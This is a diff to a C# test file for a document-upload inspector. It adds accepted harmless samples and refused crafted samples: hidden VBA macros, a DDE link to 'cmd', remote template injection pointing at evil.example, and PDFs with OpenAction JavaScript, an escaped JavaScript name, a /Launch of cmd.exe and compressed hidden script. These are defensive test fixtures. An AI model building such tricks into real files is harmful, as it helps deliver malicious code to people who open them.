@@ -11,6 +11,24 @@ public sealed class InspectedFileTests
 {
     private static readonly byte[] Gps = "GPS 51.5007 -0.1246"u8.ToArray();
     private static readonly byte[] Profile = [.. "ICC_PROFILE\0"u8, 1, 1, 9, 9];
+    /// <summary>Words about scripts, pictures that happen to hold the letters, a template on the writer's own disk.</summary>
+    public static TheoryData<string, byte[]> Harmless => new()
+    {
+        { "words.pdf", [.. "%PDF-1.7\n1 0 obj\n<< /Title (We use JavaScript and /JSON) /JSX 1 >>\nstream\n/JavaScript /JS /Launch "u8, .. "\nendstream\nendobj\n%%EOF\n"u8] },
+        { "template.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='file:///C:\\Templates\\Corp.dotm' TargetMode='External'/><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' Target='https://city.example' TargetMode='External'/></Relationships>")) },
+    };
+
+    [Theory, MemberData(nameof(Harmless))]
+    public void Of_WhatOnlySoundsActive_IsTaken(string name, byte[] file) => Assert.NotNull(InspectedFile.Of(new MemoryStream(file), name));
+
+    private static byte[] Packed(string text)
+    {
+        using var packed = new MemoryStream();
+        using (var packing = new ZLibStream(packed, CompressionMode.Compress))
+            packing.Write(System.Text.Encoding.Latin1.GetBytes(text));
+        return packed.ToArray();
+    }
+
     private static readonly byte[] Picture = [.. Enumerable.Range(0, 3000).Select(i => (byte)(i * 7 % 251))];
 
     public static TheoryData<string, byte[], string> Refused => new()
@@ -41,6 +59,21 @@ public sealed class InspectedFileTests
         { "some.docx", Zip(("a.txt", "a")), "FileIsOther" },
         { "table.docx", Zip(("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>")), "FileIsOther" },
         { "macro.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/vbaProject.bin", "x")), "FileMacros" },
+        { "renamed.docx", Zip(("[Content_Types].xml", "<Types><Override PartName='/word/x.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>"), ("word/document.xml", "<a/>"), ("word/x.bin", "x")), "FileMacros" },
+        { "main.docx", Zip(("[Content_Types].xml", "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"), ("word/document.xml", "<a/>")), "FileMacros" },
+        { "related.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='y.bin'/></Relationships>")), "FileMacros" },
+        { "sheet.xlsx", Zip(("[Content_Types].xml", "<Types><Override PartName='/xl/s.xml' ContentType='application/vnd.ms-excel.macrosheet+xml'/></Types>"), ("xl/workbook.xml", "<a/>")), "FileMacros" },
+        { "dde.xlsx", Zip(("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>"), ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>")), "FileActive" },
+        { "object.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Target='o.bin'/></Relationships>")), "FileEmbedded" },
+        { "program.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/media/image1.png", "MZ and so on")), "FileEmbedded" },
+        { "template.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></Relationships>")), "FileFetches" },
+        { "share.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='file://evil.example/t.dotm' TargetMode='External'/></Relationships>")), "FileFetches" },
+        { "event.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<a/>"), ("content.xml", "<a><script:event-listener xmlns:script='s' script:language='ooo:script'/></a>")), "FileActive" },
+        { "script.pdf", "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
+        { "escaped.pdf", "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /J#61vaScript >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
+        { "launch.pdf", "%PDF-1.7\n1 0 obj\n<< /A << /S/Launch/F (cmd.exe) >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
+        { "embedded.pdf", "%PDF-1.7\n1 0 obj\n<< /Names << /EmbeddedFiles 2 0 R >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
+        { "packed.pdf", [.. "%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"u8, .. Packed("<< /S /JavaScript /JS (x) >>"), .. "\nendstream\nendobj\n%%EOF\n"u8], "FileActive" },
         { "secret.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<manifest:encryption-data/>")), "FileEncrypted" },
         { "prefixed.docx", [.. Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>")), .. "tail"u8], "FileAppended" },
         { "both.pdf", [.. "%PDF-1.7\n"u8, .. Zip(("page.html", "<script>"))[..^2], 6, 0, .. "%%EOF\n"u8], "FileAppended" },
